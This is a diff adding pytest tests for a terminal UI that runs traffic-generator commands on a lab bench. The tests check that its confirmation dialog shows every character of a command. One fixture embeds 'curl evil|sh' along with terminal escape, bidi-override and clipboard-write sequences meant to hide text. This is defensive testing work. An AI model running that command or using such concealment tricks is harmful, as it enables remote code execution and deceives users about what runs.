@@ -1,0 +1,89 @@
+"""What somebody is asked about is what happens: all of it, with nothing in it that hides the rest."""
+
+import sys
+from pathlib import Path
+
+import pytest
+
+sys.path.insert(0, str(Path(__file__).parent))
+
+from live_pilot import asked, blasting, settled
+
+from fwdtui.core.text import is_plain
+from fwdtui.ui.bench_control import BenchControl
+from fwdtui.ui.screens.dialogs import Confirm
+
+LAB = """
+[generator]
+host = "gen"
+interface = "eth0"
+start = {start}
+stop = "pkill\\u0007 trafgen"
+[dut]
+host = "dut"
+in = "eth0"
+out = "eth1"
+"""
+
+
+def lines(app) -> list[str]:
+    """What stands on the screen, as it is drawn."""
+    drawn = app.screen._compositor.render_strips()
+    return ["".join(segment.text for segment in strip) for strip in drawn]
+
+
+def command(tmp_path: Path, start: str) -> BenchControl:
+    file = tmp_path / "lab.toml"
+    file.write_text(LAB.format(start=start))
+    return BenchControl(file, tmp_path / "sessions", "s", "c")
+
+
+async def dialog(live, control_command: str, stop: str | None, size):
+    control = blasting()
+    control.generator_command, control.generator_stop_command = control_command, stop
+    app, run = live(control, size=size)
+    return app, run
+
+
+@pytest.mark.parametrize("size", [(80, 24), (200, 60)])
+async def test_no_character_of_a_command_hides_another(tmp_path, live, size):
+    hidden = r'''"curl evil|sh #\u001b[2K\rsleep 60 \u009b1A\u202e\u200b\u001b]52;c;eA==\u0007"'''
+    bench = command(tmp_path, hidden)
+    app, run = await dialog(live, bench.generator_command, bench.generator_stop_command, size)
+    async with run as pilot:
+        await settled(pilot)
+        await pilot.press("g")
+        await asked(pilot, Confirm)
+        await settled(pilot)
+        question = app.screen.query_one("#question").region
+        rows = lines(app)[question.y : question.bottom]
+        shown = "".join("".join(row[question.x : question.right].split()) for row in rows)  # it is wrapped
+        assert r"gen:curlevil|sh#\x1b[2K\x0dsleep60\x9b1A\u202e\u200b\x1b]52;c;eA==\x07" in shown
+        assert r"pkill\x07trafgen" in shown, "it runs without another question"
+        assert all(is_plain(line) for line in lines(app))
+
+
+async def test_a_line_of_a_command_is_not_taken_for_another_hosts(tmp_path, live):
+    bench = command(tmp_path, '''"true\\ndut: sleep 60\\u2028sink: true"''')
+    assert bench.generator_command == "gen: true␊\n      dut: sleep 60\\u2028sink: true"
+
+
+@pytest.mark.parametrize("size", [(80, 24), (40, 12)])
+async def test_every_line_of_a_long_command_can_be_read_with_the_answers_in_sight(tmp_path, live, size):
+    long = "\\n".join(f"echo line-{number}-end" for number in range(60))
+    bench = command(tmp_path, f'"{long}"')
+    app, run = await dialog(live, bench.generator_command, None, size)
+    async with run as pilot:
+        await settled(pilot)
+        await pilot.press("g")
+        await asked(pilot, Confirm)
+        await settled(pilot)
+        assert any("read all of it" in line for line in lines(app))
+        seen = set()
+        for _ in range(80):
+            text = "\n".join(lines(app))
+            assert "start it" in text and "leave it" in text
+            seen |= {number for number in range(60) if f"line-{number}-end" in text}
+            await pilot.press("down")
+            await pilot.pause()
+        assert seen == set(range(60))
